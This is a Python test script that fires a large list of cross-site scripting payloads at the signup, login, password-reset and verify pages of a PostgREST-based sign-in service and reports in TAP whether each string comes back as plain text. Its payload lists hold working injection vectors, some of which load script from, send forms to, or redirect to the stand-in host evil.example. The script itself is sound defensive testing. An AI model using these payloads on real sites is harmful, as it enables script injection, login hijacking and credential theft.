#!/usr/bin/env python3
"""Sends strings that want to be scripts to every page, takes the answers apart, and prints TAP.

usage: injection.py HOST:PORT of PostgREST
"""

import http.client
import re
import sys
from html.parser import HTMLParser
from urllib.parse import quote, urlencode

BREAKOUTS = [
    "", '"', "'", ">", '">', "'>", '" ', "' ", "`>", "-->", "]]>", "</p>", "</title>", "</textarea>", "</style>", "</script>",
    "</label>", "</form>", "&quot;>", "&#34;>", "&#x22;&#x3e;", "%22%3E", "\\\">", "\u2028", "\u00ab", "\uff02\uff1e",
]

VECTORS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<script/x>alert(1)</script\t>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<body onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=https://evil.example>",
    "<input formaction=https://evil.example>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<link rel=stylesheet href=https://evil.example>",
    "<style>@import 'https://evil.example'</style>",
    "<!--><img src=x onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><x onload=alert(1)>",
    "onfocus=alert(1) autofocus x=",
    "style=background:url(https://evil.example)",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
]

STRINGS = [breakout + vector for breakout in BREAKOUTS for vector in VECTORS]

# Where a string goes: the method, the path and its query, the fields of the form. An X stands for the string; passwords
# are left out, so that nothing is hashed. What begins with /rpc/ goes to PostgREST's own functions, all else to where
# nginx sends it.
PLACES = {
    "signup": ("POST", "/orgs/signup", "first_name last_name org_name email"),
    "signup, username": ("POST", "/names/signup", "first_name last_name username email"),
    "signup, what is carried along": ("POST", "/orgs/signup", "redir redirect_uri app"),
    "signup, asked for": ("GET", "/orgs/signup?redir=X&redirect_uri=X&email=X&app=X", ""),
    "signup, username, asked for": ("GET", "/names/signup?username=X&email=X&redir=X", ""),
    "login": ("POST", "/orgs/login", "login choice redir redirect_uri app"),
    "login, username": ("POST", "/names/login", "login choice redir redirect_uri app"),
    "login, asked for": ("GET", "/orgs/login?redir=X&redirect_uri=X&login=X&choice=X&app=X", ""),
    "login, username, asked for": ("GET", "/names/login?redir=X&redirect_uri=X&login=X&choice=X&app=X", ""),
    "logout, asked for": ("GET", "/orgs/logout?redir=X&redirect_uri=X&app=X", ""),
    "forgot": ("POST", "/orgs/forgot", "login redir redirect_uri app"),
    "forgot, username": ("POST", "/names/forgot", "login redir redirect_uri app"),
    "forgot, nobody": ("POST", "/orgs/forgot", "redir redirect_uri app"),
    "forgot, asked for": ("GET", "/orgs/forgot?login=X&redir=X&redirect_uri=X&app=X", ""),
    "forgot, username, asked for": ("GET", "/names/forgot?login=X&redir=X&redirect_uri=X&app=X", ""),
    "reset, asked for": ("GET", "/orgs/reset?token=X&redir=X&redirect_uri=X&app=X", ""),
    "reset": ("POST", "/orgs/reset", "token redir redirect_uri app"),
    "reset, username": ("POST", "/names/reset", "token redir redirect_uri app"),
    "verify, asked for": ("GET", "/orgs/verify?token=X&redir=X&redirect_uri=X&app=X", ""),
    "verify": ("POST", "/orgs/verify", "token redir redirect_uri app"),
    "alone: signup, asked for": ("GET", "/rpc/signup_page?app=orgs&redir=X&redirect_uri=X", ""),
    "alone: login, asked for": ("GET", "/rpc/login_page?app=orgs&redir=X&redirect_uri=X", ""),
    "alone: logout, asked for": ("GET", "/rpc/logout_page?app=orgs&redir=X&redirect_uri=X", ""),
    "alone: signup": ("POST", "/rpc/signup", "app=orgs first_name last_name org_name email redir redirect_uri"),
    "alone: signup, username": ("POST", "/rpc/signup", "app=names first_name last_name username email redir redirect_uri"),
    "alone: login": ("POST", "/rpc/login", "app=orgs login choice redir redirect_uri"),
    "alone: login, username": ("POST", "/rpc/login", "app=names login choice redir redirect_uri"),
    "alone: an app that there is not": ("POST", "/rpc/login", "app login"),
    "alone: an app that there is not, asked for": ("GET", "/rpc/signup_page?app=X", ""),
    "an app that there is not": ("GET", "/X/signup", ""),
    "a page that there is not": ("GET", "/orgs/X", ""),
}

TAGS = set("html head meta title link body main p h1 h2 form div label input button a ul li span".split())
ATTRIBUTES = set(
    "lang charset name content rel href class method action novalidate for id type autocomplete autocapitalize autofocus "
    "spellcheck inputmode enterkeyhint required value role aria-invalid aria-describedby".split()
)
# Where the pages of PostgREST alone lead.
ALONE = re.compile(r"signup|login|logout|stylesheet|(signup|login|logout)_page\?app=(orgs|names)(&redir=[^&]*)?")


class Page(HTMLParser):
    """A page, taken apart: what does not belong to any of ours is noted."""

    def __init__(self):
        super().__init__()
        self.strange = []
        self.seen = 0

    def handle_starttag(self, tag, attrs):
        """Look at an element."""
        self.seen += 1
        if tag not in TAGS:
            self.strange.append(f"<{tag}>")
        for name, value in attrs:
            self.look_at(tag, name, value or "")

    def look_at(self, tag, name, value):
        """Look at an attribute: its name, and where it leads."""
        if name not in ATTRIBUTES or (name == "content" and tag != "meta"):
            self.strange.append(f"<{tag} {name}={value!r}>")
        if name in ("href", "action") and not (ALONE.fullmatch(value) or value.startswith(("/orgs/", "/names/", "/static/", "#"))):
            self.strange.append(f"<{tag} {name}={value!r}>")

    def handle_comment(self, data):
        """Note a comment: we write none."""
        self.strange.append(f"<!--{data}-->")

    def handle_pi(self, data):
        """Note a processing instruction."""
        self.strange.append(f"<?{data}>")

    def unknown_decl(self, data):
        """Note a declaration."""
        self.strange.append(f"<!{data}>")


def form(fields, text):
    """Return a form, a string in each of its fields, but in those of which it is said what they have."""
    pairs = (field.partition("=") for field in fields.split())
    return urlencode({name: given or text for name, _, given in pairs})


def ask(connection, place, text):
    """Send a string to a place, as nginx or a browser would, and return the status and the body."""
    method, uri, fields = place
    uri = uri.replace("X", quote(text, safe=""))
    if uri.startswith("/rpc/"):
        headers = {"Accept": "text/html"}
        if method == "POST":
            headers["Content-Type"] = "application/x-www-form-urlencoded"
        connection.request(method, uri, form(fields, text) if method == "POST" else None, headers)
    else:
        headers = {
            "Content-Type": "application/octet-stream",
            "Accept": "*/*",
            "X-Arsignup-Method": method,
            "X-Arsignup-Uri": uri,
            "X-Arsignup-Host": "127.0.0.1",
            "X-Arsignup-Content-Type": "application/x-www-form-urlencoded",
        }
        connection.request("POST", "/rpc/handle", form(fields, text), headers)
    answer = connection.getresponse()
    return answer.status, answer.read().decode()


def trouble(connection, place, text):
    """Return what is wrong with the answer to a string, or nothing."""
    status, body = ask(connection, place, text)
    page = Page()
    page.feed(body)
    page.close()
    if status not in (200, 400, 404, 422):
        return f"status {status}"
    if page.seen < 10:
        return f"hardly a page: {body[:200]!r}"
    return " ".join(page.strange)


def main():
    """Send every string to every place."""
    connection = http.client.HTTPConnection(sys.argv[1], timeout=60)
    print(f"1..{len(PLACES) + 1}")
    page = Page()
    page.feed("<p>" + "".join(STRINGS))
    print("ok 1 - the parser finds", len(page.strange), "things in the strings themselves") if page.strange else print("not ok 1")
    for number, (name, place) in enumerate(PLACES.items(), 2):
        found = [(text, wrong) for text in STRINGS if (wrong := trouble(connection, place, text))]
        print(f"{'not ok' if found else 'ok'} {number} - {name}: {len(STRINGS)} strings stay text")
        for text, wrong in found[:5]:
            print(f"# {text!r}: {wrong}")


main()
